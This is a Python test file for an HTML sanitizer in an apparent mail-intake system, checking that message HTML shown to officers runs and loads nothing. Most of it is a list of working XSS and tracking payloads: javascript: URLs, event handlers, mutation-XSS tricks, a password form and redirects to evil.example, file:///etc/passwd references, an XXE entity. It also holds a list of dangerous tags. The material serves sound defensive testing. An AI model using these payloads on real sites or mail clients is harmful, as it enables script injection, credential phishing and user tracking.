# ruff: noqa: E501  vectors are shown as they come
"""Whatever a message's HTML holds, the page an officer sees runs nothing and loads nothing."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from correspondence.intake.mail.safe_html import safe_html
from correspondence.intake.message import Attachment, Message
from correspondence.intake.parsing import parse
from tests.intake.written_mail import eml, multipart, part

PICTURE = Attachment("a.png", "image/png", b"\x89PNG", "0" * 64, content_id="Pic1@x.example")
TEXT_FILE = Attachment("a.svg", "image/svg+xml", b"<svg/>", "1" * 64, content_id="evil")

VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://tracker.example/p.gif?id=1'>",
    "<img src=//tracker.example/p.gif>",
    "<img srcset='http://tracker.example/1x.png 1x'>",
    "<img src=x:alert(alt) onerror=eval(src) alt=xss>",
    "<img/src/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
    "<img dynsrc=javascript:alert(1)>",
    "<img lowsrc=http://tracker.example/>",
    "<input type=image src=http://tracker.example/x>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<applet code=x></applet>",
    "<base href='http://evil.example/'><a href='login'>log in</a>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style>*{background:url(http://evil.example/)}</style>",
    "<p style='background:url(http://evil.example/)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>covers the page</p>",
    "<div style='behavior:url(#default#time2)' onbegin=alert(1)>x</div>",
    "<table background='http://tracker.example/'><tr><td>x</td></tr></table>",
    "<body background=http://tracker.example/ onload=alert(1)>x</body>",
    "<video src=http://tracker.example/ poster=http://tracker.example/ autoplay></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;script:alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='/cases/1/close'>x</a>",
    "<a href='#top' id=top name=top>x</a>",
    "<a href='http://x.example/' target=_top onclick=alert(1) ping=http://tracker.example/>x</a>",
    "<a href='http://x.example/&quot; onmouseover=&quot;alert(1)'>x</a>",
    "<a href='cid:Pic1@x.example'>x</a>",
    "<form action=http://evil.example/><input name=password type=password><button>Log in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div id=content class='govuk-button' name=x data-module=x>looks like ours</div>",
    "<p onmouseover=alert(1) onfocus=alert(1) tabindex=1 contenteditable autofocus>x</p>",
    "<bgsound src=javascript:alert(1)>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><?php echo 1 ?><p>x</p>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "<a href=http://x.example/ <script>alert(1)</script>>x</a>",
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    "<<script>alert(1);//<</script>",
    "<p>\u202egnp.exe</p>&#x202e;gnp.exe",
    "<table><tr><td colspan=99999999 rowspan=-1 width=1e9>x</td></tr></table>",
    "<template><img src=x onerror=alert(1)></template>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<dialog open><form method=dialog><button>OK</button></form></dialog>",
    "<portal src=http://evil.example/></portal>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<img src='cid:Pic1@x.example' onload=alert(1)>",
    "<img src='cid:evil'>",
    "<img src='cid:nobody'>",
    "<img src='CID:pic1%40x.example'>",
    "<plaintext><script>alert(1)</script>",
]  # fmt: skip

ALLOWED = {
    "a": {"href", "title", "rel"},
    "abbr": {"title"},
    "img": {"src", "alt", "width", "height"},
    "li": {"value"},
    "ol": {"start"},
    "td": {"colspan", "rowspan"},
    "th": {"colspan", "rowspan"},
}  # fmt: skip
DANGEROUS = frozenset((
    "script", "style", "iframe", "object", "embed", "form", "input", "button", "select",
    "textarea", "svg", "math", "link", "meta", "base", "frame", "frameset", "applet", "video",
    "audio", "template", "noscript", "title", "dialog", "portal",
))  # fmt: skip


class Strict(HTMLParser):
    """Every element and attribute a browser would find."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))

    handle_startendtag = handle_starttag


def linked(attachment: Attachment) -> str:
    return f"/attachments/{attachment.sha256}"


def check(fragment: str) -> None:
    """Nothing but plain elements, our own pictures, and links that say where they lead."""
    browser = Strict()
    browser.feed(fragment)
    browser.close()
    for tag, attributes in browser.found:
        assert tag not in DANGEROUS, fragment
        assert attributes.keys() <= ALLOWED.get(tag, set()), fragment
        if tag == "img":
            assert attributes["src"] == linked(PICTURE), fragment
        if "href" in attributes:
            # A scheme may be written in capitals (RFC 3986 3.1).
            assert re.match(r"(?i)(https?://|mailto:|tel:)", attributes["href"]), fragment
            assert "noreferrer" in attributes["rel"]
        for name in ("colspan", "rowspan", "width", "height"):
            assert len(attributes.get(name, "")) < 5
    assert not re.search("[\u202a-\u202e\u2066-\u2069\0]", fragment)


def shown(markup: str) -> str:
    return safe_html(Message(html=markup, text="(text)", attachments=(PICTURE, TEXT_FILE)), linked)


@pytest.mark.parametrize("vector", VECTORS, ids=range(len(VECTORS)))
def test_nothing_runs_and_nothing_is_loaded(vector: str) -> None:
    for markup in (
        vector,
        f"<html><body><p>Before</p>{vector}<p>After</p></body></html>",
        f"<table><tr><td>{vector}",
        f"<p style='display:none'>{vector}</p>",
        f'<b title="{vector}">x</b>',
    ):
        check(shown(markup))


@settings(max_examples=300)
@given(st.lists(st.sampled_from(VECTORS), min_size=2, max_size=5), st.data())
def test_vectors_cut_and_joined_do_no_more(vectors: list[str], data: st.DataObject) -> None:
    pieces = [vector[: data.draw(st.integers(0, len(vector)))] for vector in vectors]
    once = shown("".join(pieces))
    check(once)
    check(shown(once))  # and again, as when a page is quoted


@given(st.text(alphabet="<>/=\"'`!-&;#x:abimgsrconealtjv \t\n\0\u202e", max_size=200))
def test_any_signs_give_a_harmless_page(markup: str) -> None:
    check(shown(markup))


def test_words_lists_tables_and_links_stay() -> None:
    fragment = shown(
        "<h1>Leak</h1><p>It <b>still</b> leaks.<ul><li>kitchen<li>hall</ul>"
        "<table><tr><th>When</th><td colspan=2>June</td></tr></table>"
        "<a href='https://x.example/a?b=1&amp;c=2'>photo</a><blockquote>Before</blockquote>"
    )
    for kept in ("<h1>Leak</h1>", "<b>still</b>", "<li>kitchen", '<td colspan="2">June',
                 "https://x.example/a?b=1&amp;c=2", "<blockquote>Before</blockquote>"):  # fmt: skip
        assert kept in fragment


def test_a_picture_of_the_message_itself_is_shown_and_no_other() -> None:
    fragment = shown(
        "<img src='cid:pic1@X.EXAMPLE' alt='The wall' width=200>"
        "<img src='https://x.example/logo.png' alt='Logo'><img src='cid:gone'>"
    )
    assert f'src="{linked(PICTURE)}"' in fragment
    assert "[Picture: Logo]" in fragment
    assert fragment.count("<img") == 1


def test_without_a_place_to_show_pictures_their_words_stand_for_them() -> None:
    message = Message(html="<img src='cid:Pic1@x.example' alt='The wall'>", attachments=(PICTURE,))
    assert safe_html(message) == "[Picture: The wall]"


@pytest.mark.parametrize(
    "hidden",
    [
        "<div style='display:none'>Secret</div>",
        "<div style='font-size:0'>Secret</div>",
        "<div style='position:absolute;left:-9999px'>Secret</div>",
        "<div style='height:0;overflow:hidden'>Secret</div>",
        "<span style='color:#FFFFFF'>Secret</span>",
        "<font color=white>Secret</font>",
        "<div hidden>Secret</div>",
        "<style>.x{display:none}</style><div class=x>Secret</div>",
        "<style>#y , p.z{visibility:hidden}</style><div id=y>Secret</div>",
    ],
)
def test_what_a_reader_did_not_see_is_shown_as_hidden_and_left_out_of_the_text(
    hidden: str,
) -> None:
    message = parse(eml(f"<p>Shown</p>{hidden}<p>too</p>", content_type="text/html"))
    assert "Secret" not in message.text
    assert any("does not see" in defect for defect in message.defects)
    assert "[Hidden in the message: " in safe_html(message)
    assert "Secret" in safe_html(message)


@pytest.mark.parametrize(
    "visible",
    [
        "<td style='font-size:0'><div style='font-size:14px'>Seen</div></td>",
        "<table bgcolor=navy><tr><td><font color=white>Seen</font></td></tr></table>",
        "<div style='background:#005'><p><span style='color:#fff'>Seen</span></p></div>",
        "<style>@media print{.x{display:none}}</style><div class=x>Seen</div>",
        "<div style='opacity:0.9;max-height:100px'>Seen</div>",
        "<div style='margin-left:-10px;overflow:hidden'>Seen</div>",
    ],
)
def test_what_a_reader_did_see_is_not_taken_for_hidden(visible: str) -> None:
    message = parse(eml(f"<table><tr>{visible}</tr></table>", content_type="text/html"))
    assert "Seen" in message.text
    assert message.defects == ()


def test_a_message_without_html_is_shown_in_paragraphs() -> None:
    fragment = safe_html(Message(text="Dear <team>,\n\nIt leaks.\nStill."))
    assert fragment == "<p>Dear &lt;team&gt;,</p>\n<p>It leaks.<br>Still.</p>"


@pytest.mark.parametrize("markup", ["<div>" * 50_000 + "x", "<b>x</b>" * 400_000, "<!--" * 100_000])
def test_absurd_html_gives_the_text_instead(markup: str) -> None:
    assert safe_html(Message(html=markup, text="The words")) == "<p>The words</p>"


def test_pictures_are_known_by_the_names_they_came_with() -> None:
    message = parse(
        multipart(
            part("<img src='cid:one@x'>", "text/html"),
            b"Content-Type: image/png\r\nContent-ID: <one@x>\r\n\r\n\x89PNG",
            kind="related",
        )
    )
    assert [item.content_id for item in message.attachments] == ["one@x"]
    assert safe_html(message, lambda item: f"/a/{item.name}") == '<img src="/a/attachment.png">'
